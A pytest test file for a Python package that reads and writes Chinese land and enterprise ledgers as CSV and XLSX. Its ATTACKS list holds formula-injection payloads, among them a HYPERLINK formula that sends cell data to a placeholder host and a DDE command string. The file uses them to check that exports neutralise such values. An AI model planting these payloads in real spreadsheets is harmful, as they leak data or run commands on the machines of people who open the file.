"""CSV and XLSX: ledgers as offices keep them come in as text; what goes out is never computed and comes back."""

from __future__ import annotations

import csv
from datetime import date, datetime
from pathlib import Path

import geopandas as gpd
import openpyxl
import pandas as pd
import pyogrio
import pytest
import shapely
from hypothesis import given
from hypothesis import strategies as st
from pyproj import CRS
from shapely import Point, box

from geo.crs import STORAGE_CRS, ellipsoidal_area, reproject
from geo.errors import InvalidInput
from geo.layers.formats import spreadsheet
from geo.layers.formats.provenance import Provenance
from geo.layers.formats.raw import RawLayer
from geo.layers.formats.spreadsheet import read_csv, read_xlsx, write_csv, write_xlsx
from geo.layers.formats.table_columns import UNITS_ZH
from geo.layers.schema import ENTERPRISES, LAYERS, PARCELS, TERMINALS
from geo.units import factor_to_stored

ABOUT = Provenance(
    "parcels", "宗地", "EPSG:4549", "run-1", "2024-06-30", "2024-07-01T08:00:00", "某局", "全部", "椭球面积"
)
ATTACKS = [
    '=HYPERLINK("http://x.example/?"&A1,"点")', "=1+1", "@SUM(A1:A9)", "+cmd|' /C calc'!A0", "-2+3", "\t=1+1",
    "\r=1+1", "＝1+1", "'=1+1", "''=1+1", "#N/A", "_x0041_", "a\x07b",
]  # fmt: skip
CODE = "3301060000000000019"


def text_file(folder: Path, text: str, encoding: str = "utf-8") -> Path:
    path = folder / "表.csv"
    path.write_bytes(text.encode(encoding))
    return path


def csv_layer(folder: Path, text: str, encoding: str = "utf-8", header_row: int | None = None) -> RawLayer:
    (layer,) = read_csv(text_file(folder, text, encoding), None, header_row)
    return layer


def workbook(folder: Path, *rows: list[object], merged: tuple[str, ...] = ()) -> Path:
    book = openpyxl.Workbook()
    sheet = book.active
    for row in rows:
        sheet.append(row)
    for cells in merged:
        sheet.merge_cells(cells)
    path = folder / "台账.xlsx"
    book.save(path)
    return path


# ------------------------------------------------------------------------------------------------------ reading CSV


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "gb18030", "utf-16"])
@pytest.mark.parametrize("delimiter", [",", ";", "\t", "|"])
def test_encoding_and_delimiter_are_told_from_the_file(tmp_path, encoding, delimiter):
    text = "\r\n".join(delimiter.join(row) for row in [["宗地代码", "名称"], [CODE, "甲厂"], ["007", "乙厂"]])
    frame = csv_layer(tmp_path, text, encoding).frame
    assert frame.to_dict("list") == {"宗地代码": [CODE, "007"], "名称": ["甲厂", "乙厂"]}


def test_quoted_newlines_and_delimiters_stay_in_their_cell(tmp_path):
    frame = csv_layer(tmp_path, 'a,b\n"一\n二","x,y"\n三,\n').frame
    assert frame.to_dict("list") == {"a": ["一\n二", "三"], "b": ["x,y", None]}


def test_a_quotation_mark_that_never_closes_is_refused(tmp_path):
    with pytest.raises(InvalidInput, match="引号"):
        csv_layer(tmp_path, 'a,b\n"一,二\n三,四\n')


SQUARE = box(120, 30, 120.01, 30.01)


@pytest.mark.parametrize(
    ("cell", "epsg"),
    [
        (SQUARE.wkt, None),
        (f"SRID=4490;{SQUARE.wkt}", 4490),
        (SQUARE.wkb_hex, None),
        (shapely.to_wkb(shapely.set_srid(SQUARE, 4549), hex=True, include_srid=True), 4549),
        (shapely.to_geojson(SQUARE), None),
    ],
    ids=["wkt", "ewkt", "wkb", "ewkb", "geojson"],
)
@pytest.mark.parametrize("heading", ["WKT", "the_geom", "随便什么"])
def test_geometry_is_found_by_name_or_by_looking(tmp_path, cell, epsg, heading):
    path = tmp_path / "a.csv"
    with path.open("w", newline="") as sink:
        csv.writer(sink).writerows([["id", heading], ["1", cell], ["2", cell[:-7]], ["3", ""]])
    (layer,) = read_csv(path, None, None)
    assert layer.frame.geometry[0].equals(SQUARE)
    assert (layer.frame.crs.to_epsg() if layer.frame.crs else None) == epsg
    assert list(layer.faults) == [1]  # cut short; the row without a cell is no fault
    assert "第 3 行" in layer.faults[1]
    assert layer.frame["id"].tolist() == ["1", "2", "3"]


@pytest.mark.parametrize("code", ["0" * 19, "0" * 20, "01030000001234567890", "0103000000123456789"])
def test_codes_that_begin_like_geometry_are_codes(tmp_path, code):
    frame = csv_layer(tmp_path, f"宗地代码,名称\n{code},甲\n").frame
    assert frame.to_dict("list") == {"宗地代码": [code], "名称": ["甲"]}


@pytest.mark.parametrize(
    ("heading", "row", "expected"),
    [
        ("经度,纬度", "120.5,30.25", (120.5, 30.25)),
        ("LAT,LNG", "30.25,120.5", (120.5, 30.25)),
        ("X坐标(m),Y坐标(m)", "3346000,40500000", (40_500_000, 3_346_000)),
        ("x,y", "500000,3346000", (500_000, 3_346_000)),
        ("北坐标,东坐标", "3346000,500000", (500_000, 3_346_000)),
        ("经度,纬度", "120°30′36″,30°15′", (120.51, 30.25)),
    ],
)
def test_columns_of_coordinates_give_points(tmp_path, heading, row, expected):
    layer = csv_layer(tmp_path, f"编号,{heading}\nA,{row}\nB,x,1\nC,,\n")
    assert shapely.get_coordinates(layer.frame.geometry[0])[0] == pytest.approx(expected)
    assert list(layer.faults) == [1]
    assert layer.frame.crs is None


# ----------------------------------------------------------------------------------------------------- reading XLSX


def test_a_ledger_with_titles_two_level_heading_sums_and_remarks(tmp_path):
    path = workbook(
        tmp_path,
        ["某区低效用地台账"],
        ["单位：亩、万元", None, None, None, None, "填报日期：2024-06-30"],
        ["序号", "企业\n名称", "用地面积", None, "税收", None, "投产日期"],
        [None, None, "总面积", "已用", 2022, 2023, None],
        [1, 2, 3, 4, 5, 6, 7],
        [1, "甲公司", 12.5, 10, 30, 31.25, datetime(2020, 3, 5)],
        [None] * 7,
        ["小计", None, 12.5, 10, 30, 31.25],
        ["序号", "企业\n名称", "用地面积", None, "税收", None, "投产日期"],
        [2, "乙公司", 8, None, None, 4, datetime(2021, 1, 1, 8, 30)],
        ["合　计", None, 20.5, 10, 30, 35.25],
        ["填表人：张三", None, None, "审核人：李四"],
        merged=("A1:G1", "C3:D3", "E3:F3", "A3:A4", "B3:B4", "G3:G4"),
    )
    (layer,) = read_xlsx(path, None)
    assert layer.frame.to_dict("list") == {
        "序号": ["1", "2"],
        "企业名称": ["甲公司", "乙公司"],
        "用地面积_总面积": ["12.5", "8"],
        "用地面积_已用": ["10", None],
        "税收_2022": ["30", None],
        "税收_2023": ["31.25", "4"],
        "投产日期": ["2020-03-05", "2021-01-01 08:30:00"],
    }
    for told in ("表头取第 3 行", "2 行合计", "第 8、11 行", "重复的表头", "列号", "表尾 1 行", "空行"):
        assert any(told in note for note in layer.notes), told


def test_a_heading_whose_upper_row_names_only_groups(tmp_path):
    path = workbook(
        tmp_path,
        ["基本情况", None, None, "经营情况", None, None],
        ["编号", "名称", "地址", "税收", "产值", "人数"],
        ["A1", "甲", "某路1号", 1, 2, 3],
    )
    (layer,) = read_xlsx(path, None)
    assert list(layer.frame.columns) == [
        "基本情况_编号", "基本情况_名称", "基本情况_地址", "经营情况_税收", "经营情况_产值", "经营情况_人数",
    ]  # fmt: skip
    assert len(layer.frame) == 1


def test_a_flat_heading_over_text_rows_is_one_level(tmp_path):
    (layer,) = read_xlsx(workbook(tmp_path, ["编号", "名称", "备注"], ["A1", "甲", None], ["A2", "乙", "好"]), None)
    assert layer.frame.to_dict("list") == {"编号": ["A1", "A2"], "名称": ["甲", "乙"], "备注": [None, "好"]}


def test_the_heading_row_can_be_named(tmp_path):
    path = workbook(tmp_path, ["a", "b"], ["c", "d"], ["1", "2"])
    (layer,) = read_xlsx(path, 2)
    assert layer.frame.to_dict("list") == {"c": ["1"], "d": ["2"]}


def test_identifiers_that_became_numbers_are_whole_again(tmp_path):
    path = workbook(tmp_path, ["编号", "面积", "真"], [24861268.0, 42.51, True], [float(CODE), 0.1, False])
    (layer,) = read_xlsx(path, None)
    assert layer.frame["编号"].tolist() == ["24861268", str(int(float(CODE)))]
    assert layer.frame["面积"].tolist() == ["42.51", "0.1"]
    assert any("失真" in note and "A3" in note for note in layer.notes)


def test_hidden_and_empty_sheets_and_uncomputed_formulas_are_noted(tmp_path):
    book = openpyxl.Workbook()
    book.active.append(["编号", "面积"])
    book.active.append(["A", "=1+1"])
    book.create_sheet("空表")
    book.create_sheet("暗").append(["x"])
    book["暗"].sheet_state = "hidden"
    path = tmp_path / "a.xlsx"
    book.save(path)
    (layer,) = read_xlsx(path, None)
    assert layer.frame["面积"].tolist() == [None]
    for told in ("隐藏的工作表“暗”", "空工作表“空表”", "1 个公式没有保存结果", "B2"):
        assert any(told in note for note in layer.notes), told


@pytest.mark.parametrize("raw", [b"", b"PK\x03\x04", b"\xd0\xcf\x11\xe0old"])
def test_what_is_no_workbook_is_refused(tmp_path, raw):
    path = tmp_path / "a.xlsx"
    path.write_bytes(raw)
    with pytest.raises(InvalidInput):
        read_xlsx(path, None)


# ---------------------------------------------------------------------------------------------------------- writing


def parcels() -> gpd.GeoDataFrame:
    shapes = [box(500_000 + 200 * i, 3_346_000, 500_100 + 200 * i, 3_346_100) for i in range(2)]
    return gpd.GeoDataFrame(
        {
            "parcel_id": [CODE, "007"],
            "holder": ["甲“公司”，\n二部", None],
            "contract_date": pd.to_datetime(["2020-03-05", None]).astype("datetime64[s]"),
            "tax_yuan": [1_234.5, None],
            "area_m2": [10_000.0, 20_000 / 3],
            "employees": pd.array([12, None], dtype="Int64"),
            "above_scale": pd.array([True, None], dtype="boolean"),
            "extra": [{"备注": "好"}, None],
        },
        geometry=shapes,
        crs=4549,
    )


def test_a_workbook_has_typed_cells_units_and_a_page_about_itself(tmp_path):
    path = tmp_path / "宗地.xlsx"
    done = write_xlsx(iter([parcels().iloc[:1], parcels().iloc[1:]]), PARCELS, path, CRS.from_epsg(4549), ABOUT)
    assert done.rows == 2
    book = openpyxl.load_workbook(path)
    assert book.sheetnames == ["宗地", "说明"]
    head, first, second = [[cell.value for cell in row] for row in book["宗地"].iter_rows()]
    assert head == [
        "宗地代码", "使用权人", "合同签订日期", "椭球面积（平方米）", "面积（亩）", "税收（元/年）", "从业人数（人）",
        "规模以上", "其他字段", "代表点经度", "代表点纬度",
    ]  # fmt: skip
    assert first[:9] == [
        CODE, "甲“公司”，\n二部", datetime(2020, 3, 5), 10_000, 15, 1_234.5, 12, "是", '{"备注": "好"}',
    ]  # fmt: skip
    assert second[:9] == ["007", None, None, 20_000 / 3, 10, None, None, None, None]
    assert Point(first[9:]).distance(Point(120.00052, 30.23397)) < 1e-5
    assert book["宗地"].freeze_panes == "B2"
    assert book["宗地"].auto_filter.ref == "A1:K3"
    about = {row[0].value: row[1].value for row in book["说明"].iter_rows() if row[0].value}
    assert about["坐标系"] == "EPSG:4549"
    assert about["分析批次"] == "run-1"
    assert about["税收（元/年）"] == "tax_yuan"


def test_points_give_their_place(tmp_path):
    frame = gpd.GeoDataFrame({"terminal_id": ["T1"]}, geometry=[Point(500_000, 3_346_000)], crs=4549)
    write_xlsx(iter([frame]), TERMINALS, tmp_path / "a.xlsx", CRS.from_epsg(4549), ABOUT)
    (layer,) = read_xlsx(tmp_path / "a.xlsx", None)
    back = reproject(layer.frame.geometry.to_numpy(), STORAGE_CRS, "EPSG:4549")
    assert back[0].distance(frame.geometry[0]) < 0.02


@pytest.mark.parametrize("suffix", ["csv", "xlsx"])
def test_texts_that_would_be_computed_are_text_and_come_back_identical(tmp_path, suffix):
    frame = pd.DataFrame({"enterprise_id": [str(i) for i in range(len(ATTACKS))], "holder": ATTACKS})
    path = tmp_path / f"企业.{suffix}"
    if suffix == "csv":
        write_csv(iter([frame]), ENTERPRISES, path, None, ABOUT)
        with path.open(encoding="utf-8-sig", newline="") as source:
            cells = [cell for row in csv.reader(source) for cell in row]
        assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r", "＝"))]
        (layer,) = read_csv(path, None, None)
    else:
        write_xlsx(iter([frame]), ENTERPRISES, path, None, ABOUT)
        sheet = openpyxl.load_workbook(path)["企业"]
        assert {cell.data_type for row in sheet.iter_rows() for cell in row} == {"s"}
        assert sheet["B2"].quotePrefix
        (layer,) = read_xlsx(path, None)
    expected = [None if text == "#N/A" and suffix == "xlsx" else text for text in ATTACKS]
    assert layer.frame["企业名称"].tolist() == expected


@given(st.lists(st.text(st.characters(exclude_categories=("Cs",), exclude_characters="\x00"), max_size=12), min_size=1))
def test_any_text_survives_a_csv(tmp_path_factory, texts):
    path = tmp_path_factory.mktemp("any") / "a.csv"
    frame = pd.DataFrame({"enterprise_id": [f"k{i}" for i in range(len(texts))], "holder": texts})
    write_csv(iter([frame]), ENTERPRISES, path, None, ABOUT)
    (layer,) = read_csv(path, None, 1)
    expected = [text if text.strip() else None for text in texts]
    found = layer.frame.get("企业名称", pd.Series([None] * len(texts))).tolist()
    assert found == expected


def test_csv_keeps_geometry_attributes_and_says_where_it_comes_from(tmp_path):
    path = tmp_path / "宗地.csv"
    frame = parcels()
    done = write_csv(iter([frame]), PARCELS, path, CRS.from_epsg(4549), ABOUT)
    assert done.rows == 2
    assert path.read_bytes().startswith(b"\xef\xbb\xbf")
    (layer,) = read_csv(path, None, None)
    assert layer.frame.geometry.geom_equals_exact(frame.geometry.set_crs(None, allow_override=True), 1e-4).all()
    assert layer.frame["宗地代码"].tolist() == [CODE, "007"]
    assert layer.frame["合同签订日期"].tolist() == ["2020-03-05", None]
    assert layer.frame["其他字段"].tolist() == ['{"备注": "好"}', None]
    assert float(layer.frame["椭球面积（平方米）"][1]) == 20_000 / 3
    about = (tmp_path / "宗地.说明.txt").read_text(encoding="utf-8-sig")
    assert "坐标系：EPSG:4549" in about
    assert "税收（元/年） | tax_yuan | 数值 | 元/年" in about
    assert pyogrio.read_dataframe(path)["宗地代码"].tolist()[0] == CODE


def test_rows_beyond_one_sheet_go_on_in_the_next(tmp_path, monkeypatch):
    monkeypatch.setattr(spreadsheet, "SHEET_ROWS", 4)
    frame = pd.DataFrame({"enterprise_id": [f"E{i}" for i in range(7)]})
    done = write_xlsx(iter([frame]), ENTERPRISES, tmp_path / "a.xlsx", None, ABOUT)
    layers = read_xlsx(tmp_path / "a.xlsx", None)
    assert [layer.name for layer in layers] == ["企业", "企业_2", "企业_3"]
    assert pd.concat(layer.frame for layer in layers)["编号"].tolist() == frame["enterprise_id"].tolist()
    assert "分为 3 张" in done.notes[0]


def test_no_rows_still_make_a_file(tmp_path):
    empty = parcels().iloc[:0]
    assert write_xlsx(iter([empty]), PARCELS, tmp_path / "a.xlsx", CRS.from_epsg(4549), ABOUT).rows == 0
    assert write_csv(iter([empty]), PARCELS, tmp_path / "a.csv", CRS.from_epsg(4549), ABOUT).rows == 0
    assert openpyxl.load_workbook(tmp_path / "a.xlsx").sheetnames == ["宗地", "说明"]


def test_every_unit_of_the_schema_has_a_chinese_name_that_is_read_again():
    units = {field.unit for layer in LAYERS.values() for field in layer.fields} - {"", "1"}
    assert units <= set(UNITS_ZH)
    for unit in units:
        assert factor_to_stored(UNITS_ZH[unit], unit) == 1


def test_dates_of_every_kind_are_dates(tmp_path):
    frame = pd.DataFrame({"enterprise_id": ["a"], "extra": [None], "day": [date(2024, 2, 29)]})
    write_xlsx(iter([frame]), ENTERPRISES, tmp_path / "a.xlsx", None, ABOUT)
    (layer,) = read_xlsx(tmp_path / "a.xlsx", None)
    assert layer.frame["day"].tolist() == ["2024-02-29"]


# -------------------------------------------------------------------------------------------------------- real files

HANGZHOU = Path(__file__).resolve().parents[3] / "shared" / "data" / "formats_hangzhou"
real = [pytest.mark.real_land, pytest.mark.skipif(not HANGZHOU.exists(), reason="shared real layers are absent")]


@pytest.mark.parametrize(
    "name",
    [pytest.param(name, marks=real) for name in ("landuse_4549_wkt_gbk.csv", "landuse_4549_wkt_utf8bom.csv")],
)
def test_hangzhou_csv(name):
    (layer,) = read_csv(HANGZHOU / name, None, None)
    areas = ellipsoidal_area(reproject(layer.frame.geometry.to_numpy(), "EPSG:4549", STORAGE_CRS))
    assert (len(layer.frame), len(layer.frame.explode()), layer.faults) == (1_040, 1_047, {})
    assert areas.sum() / 1e4 == pytest.approx(11_643.4, rel=1e-4)
    assert layer.frame["类别"].value_counts()["工业用地"] == 540


@pytest.mark.real_land
@pytest.mark.skipif(not HANGZHOU.exists(), reason="shared real layers are absent")
def test_hangzhou_xlsx():
    (layer,) = read_xlsx(HANGZHOU / "landuse_points.xlsx", None)
    assert (len(layer.frame), layer.faults) == (1_040, {})
    assert layer.frame["面积_亩"].astype(float).sum() / 15 == pytest.approx(11_643.4, rel=1e-4)
    assert layer.frame["编号"][0] == "24861268"
    assert layer.frame.geometry.within(box(118, 29, 121, 31)).all()


def test_a_curve_is_a_fault_of_its_row(tmp_path: Path) -> None:
    path = tmp_path / "a.csv"
    path.write_text('id,WKT\n1,POINT (1 2)\n2,"CIRCULARSTRING (0 0, 1 1, 2 0)"\n3,POINT (3 4)\n', encoding="utf-8")
    (layer,) = read_csv(path, None, None)
    assert list(layer.faults) == [1]
    assert layer.frame.geometry.notna().tolist() == [True, False, True]


def test_a_heading_of_two_levels_with_a_group_of_one_column(tmp_path: Path) -> None:
    book = openpyxl.Workbook()
    sheet = book.active
    for row in (
        ["序号", "企业名称", "经济指标", None, "用地"],
        [None, None, "税收（万元）", "营业收入（万元）", "面积（亩）"],
        ["1", "甲公司", 12.5, 300, 45.2],
        ["2", "乙公司", 3, 80, 20],
    ):
        sheet.append(row)
    book.save(tmp_path / "a.xlsx")
    (layer,) = read_xlsx(tmp_path / "a.xlsx", None)
    assert list(layer.frame.columns) == [
        "序号", "企业名称", "经济指标_税收（万元）", "经济指标_营业收入（万元）", "用地_面积（亩）",
    ]  # fmt: skip
    assert len(layer.frame) == 2
